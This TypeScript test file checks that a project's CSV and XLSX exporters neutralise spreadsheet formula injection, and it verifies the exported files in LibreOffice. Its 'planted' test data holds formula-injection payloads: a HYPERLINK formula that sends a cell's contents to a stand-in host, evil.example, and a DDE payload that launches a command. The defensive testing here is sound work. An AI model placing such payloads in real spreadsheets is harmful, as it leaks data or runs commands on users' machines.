import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { execFile } from 'node:child_process'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { toCsv } from '../../src/exports/csv.ts'
import type { Cell, Table } from '../../src/exports/table.ts'
import { toXlsx } from '../../src/exports/xlsx.ts'
import { sheetOf } from './support.ts'

/** Spreadsheets compute what begins with one of these signs. */
const planted = [
  '=HYPERLINK("http://evil.example?"&A1,"press")',
  "=cmd|' /C calc'!A0",
  '+81 90-1234-5678',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '"=1+1"',
]
const kept = [
  '山田 花子 髙﨑𠮷',
  'a "quoted" one, with; signs',
  '<b>&amp;</b>',
  '_x000D_',
  '0312',
  "O'Brien",
]

const columns = [
  { kind: 'text', width: 30 },
  { kind: 'day', width: 12 },
  { kind: 'moment', width: 16 },
  { kind: 'usd', width: 12 },
  { kind: 'yen', width: 12 },
] as const

async function* pages(): AsyncGenerator<readonly (readonly Cell[])[]> {
  yield planted.map((text) => [text, null, null, null, null])
  yield kept.map((text) => [text, '2026-11-19', '2026-11-19 09:30', 1_234.5, 70_680])
  yield [['ends\0with \uD800 nothing', '2026-02-28', null, -25, 0]]
}

const table = (): Table => ({
  name: 'お客さま',
  columns,
  titles: ['Text', 'Day', 'Time', '=USD', 'Yen'],
  pages: pages(),
})

async function bytesOf(content: AsyncIterable<Buffer>): Promise<Buffer> {
  const chunks: Buffer[] = []
  for await (const chunk of content) chunks.push(chunk)
  return Buffer.concat(chunks)
}

test('in CSV, a cell that a spreadsheet would compute begins with an apostrophe', async () => {
  const text = (await bytesOf(toCsv(table()))).toString()
  const cells = text.split('\r\n')
  expect(cells[0]).toBe('\uFEFFText,Day,Time,"\'=USD",Yen')
  expect(cells[1]).toBe('"\'=HYPERLINK(""http://evil.example?""&A1,""press"")",,,,')
  expect(cells[3]).toBe('"\'+81 90-1234-5678",,,,')
  for (const sign of planted.slice(0, -1))
    expect(text).toContain(`"'${sign.replaceAll('"', '""')}"`)
  expect(text).toContain('山田 花子 髙﨑𠮷,2026-11-19,2026-11-19 09:30,1234.50,70680')
  // Numbers stay numbers.
  expect(text).toContain(',2026-02-28,,-25.00,0\r\n')
})

test('in a workbook, texts are texts, and money, days and times are numbers with a format', async () => {
  const sheet = sheetOf(await bytesOf(toXlsx(table())))
  expect(sheet).not.toMatch(/<f[ >/]/)
  expect(sheet).toContain('t="inlineStr"><is><t xml:space="preserve">=HYPERLINK(&quot;http')
  expect(sheet).toContain('<c s="2"><v>46345</v></c><c s="3"><v>46345.395833333336</v></c>')
  expect(sheet).toContain('<c s="4"><v>1234.5</v></c><c s="5"><v>70680</v></c>')
  expect(sheet).not.toMatch(/[\0\uD800]/)
})

const run = promisify(execFile)
const office = await run('soffice', ['--version']).then(
  ({ stdout }) => stdout.trim(),
  () => undefined,
)
if (!office) {
  process.stdout.write(
    'LibreOffice is not installed (apt-get install libreoffice-calc): exports are not opened in it\n',
  )
}

describe.runIf(office)('opened in LibreOffice,', () => {
  let folder: string
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'kakehashi-sheets-'))
  })
  afterAll(() => rm(folder, { recursive: true, force: true }))

  /** As LibreOffice shows the cells, and with the formulas it found. */
  async function shown(name: string, content: Buffer) {
    const file = join(folder, name)
    await writeFile(file, content)
    const convert = async (filter: string) => {
      const profile = `-env:UserInstallation=file://${folder}/profile`
      await run('soffice', [
        profile,
        '--headless',
        '--convert-to',
        filter,
        '--outdir',
        folder,
        file,
      ])
    }
    // Separator, quote, UTF-8, from line 1, cells as they are shown.
    await convert('csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true')
    const text = await readFile(join(folder, name.replace(/\.\w+$/, '.csv')), 'utf8')
    await convert('fods')
    const flat = await readFile(join(folder, name.replace(/\.\w+$/, '.fods')), 'utf8')
    return { text, formulas: flat.match(/table:formula="[^"]*"/g) ?? [] }
  }

  const timeout = 120_000

  test(
    'no planted cell of a workbook is computed, and every text is as it was',
    { timeout },
    async () => {
      const { text, formulas } = await shown('sheet.xlsx', await bytesOf(toXlsx(table())))
      expect(formulas).toEqual([])
      for (const cell of [...planted, ...kept]) {
        const inCell = cell.replaceAll('\r', '\n').trimStart()
        expect(text).toContain(inCell.replaceAll('"', '""'))
      }
      expect(text).toContain('2026-11-19,2026-11-19 09:30,"$1,234.50","¥70,680"')
      expect(text).toContain('2026-02-28,,-$25.00,¥0')
    },
  )

  test('no planted cell of a CSV file is computed', { timeout }, async () => {
    const { text, formulas } = await shown('lines.csv', await bytesOf(toCsv(table())))
    expect(formulas).toEqual([])
    expect(text).toContain('山田 花子 髙﨑𠮷')
  })
})
